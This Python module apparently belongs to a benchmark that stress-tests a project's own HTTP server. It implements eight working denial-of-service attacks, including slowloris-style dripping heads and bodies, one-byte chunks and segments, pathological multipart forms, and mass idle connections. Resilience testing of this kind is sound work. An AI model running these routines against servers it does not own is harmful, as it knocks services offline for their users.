"""Attacks on HTTP, which ``benchmarks.hostile`` runs.

Each attack is a function of HOST:PORT and of an event that ends it; it returns once all its connections are closed.
Attack only servers of your own.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress

#: Takes HOST:PORT and an event that ends the attack.
Attack = Callable[[str, threading.Event], None]

_CONNECT_TIMEOUT_S = 5.0
_PAUSE_S = 0.05


def one_byte_chunks(address: str, stop: threading.Event, connections: int = 20) -> None:
    """Bodies in chunks of one byte: six bytes on the wire for each, and an event of the HTTP parser."""
    _send_for_ever(address, stop, connections, _chunked_head(), b"1\r\nx\r\n" * 10_000)


def one_byte_segments(address: str, stop: threading.Event, connections: int = 20) -> None:
    """Bodies of which each byte comes in a TCP segment of its own, and wakes the server."""
    _send_for_ever(address, stop, connections, _head(50_000_000), b"x")


def near_boundaries(address: str, stop: threading.Event, connections: int = 8) -> None:
    """Forms full of what begins like a boundary, 1 MB each."""
    body = _form(b"\r\n--xZ" * 170_000)
    _repeat(address, stop, connections, _head(len(body), "multipart/form-data; boundary=x") + body)


def many_parts(address: str, stop: threading.Event, connections: int = 8) -> None:
    """Forms of 1 MB whose parts have no content."""
    body = b'--x\r\nContent-Disposition: form-data; name="urls"\r\n\r\n\r\n' * 18_000 + b"--x--\r\n"
    _repeat(address, stop, connections, _head(len(body), "multipart/form-data; boundary=x") + body)


def idle_connections(address: str, stop: threading.Event, connections: int = 512) -> None:
    """Connections that say nothing, each opened again when the server closes it."""
    _hold(address, stop, connections, b"", first=b"")


def dripping_heads(address: str, stop: threading.Event, connections: int = 512) -> None:
    """Requests whose head comes at a byte a second."""
    _hold(address, stop, connections, b"x", first=b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")


def dripping_bodies(address: str, stop: threading.Event, connections: int = 128) -> None:
    """Requests whose body comes at a byte a second."""
    _hold(address, stop, connections, b"x", first=_head(1_000_000))


def unread_answers(address: str, stop: threading.Event, connections: int = 128) -> None:
    """Requests whose long answers are not read."""
    request = b"GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: localhost\r\n\r\n"
    _hold(address, stop, connections, b"", first=request * 8)


#: Every attack, by its name.
ATTACKS: Mapping[str, Attack] = {
    each.__name__: each
    for each in (
        one_byte_chunks,
        one_byte_segments,
        near_boundaries,
        many_parts,
        idle_connections,
        dripping_heads,
        dripping_bodies,
        unread_answers,
    )
}


def _head(length: int, content_type: str = "application/json") -> bytes:
    lines = "POST /v1/execute HTTP/1.1", "Host: localhost", f"Content-Type: {content_type}", f"Content-Length: {length}"
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def _chunked_head() -> bytes:
    return _head(0).replace(b"Content-Length: 0", b"Transfer-Encoding: chunked")


def _form(content: bytes) -> bytes:
    part = b'Content-Disposition: form-data; name="images"; filename="a.png"'
    return b"--x\r\n" + part + b"\r\n\r\n" + content + b"\r\n--x--\r\n"


def _send_for_ever(address: str, stop: threading.Event, connections: int, head: bytes, part: bytes) -> None:
    """From each connection a head and then the same part for ever; a new connection after each that ended."""

    def send() -> None:
        while not stop.wait(_PAUSE_S):
            with suppress(OSError), _connect(address) as connection:
                connection.sendall(head)
                while not stop.is_set():
                    connection.sendall(part)

    _in_threads(send, connections)


def _repeat(address: str, stop: threading.Event, connections: int, request: bytes) -> None:
    """The same request from each connection, again after its answer."""

    def send() -> None:
        while not stop.wait(_PAUSE_S):
            with suppress(OSError), _connect(address) as connection:
                connection.sendall(request)
                connection.recv(65536)

    _in_threads(send, connections)


def _hold(address: str, stop: threading.Event, connections: int, drip: bytes, first: bytes) -> None:
    """Keep so many connections open, on which ``first`` was sent, and send ``drip`` on each every second."""
    held: list[socket.socket] = []
    while not stop.is_set():
        held = [each for each in held if _send(each, drip)]
        while len(held) < connections and not stop.is_set():
            try:
                connection = _connect(address)
            except OSError:
                break
            _send(connection, first)
            held.append(connection)
        stop.wait(1.0)
    for each in held:
        each.close()


def _send(connection: socket.socket, data: bytes) -> bool:
    """False, and closed, if the server has hung up."""
    try:
        connection.sendall(data)
        connection.setblocking(False)
        with suppress(BlockingIOError):
            if connection.recv(1, socket.MSG_PEEK) == b"":
                connection.close()
                return False
        connection.settimeout(_CONNECT_TIMEOUT_S)
    except OSError:
        connection.close()
        return False
    return True


def _connect(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host.strip("[]"), int(port)), timeout=_CONNECT_TIMEOUT_S)


def _in_threads(work: Callable[[], None], count: int) -> None:
    with ThreadPoolExecutor(count) as pool:
        for done in [pool.submit(work) for _ in range(count)]:
            done.result()
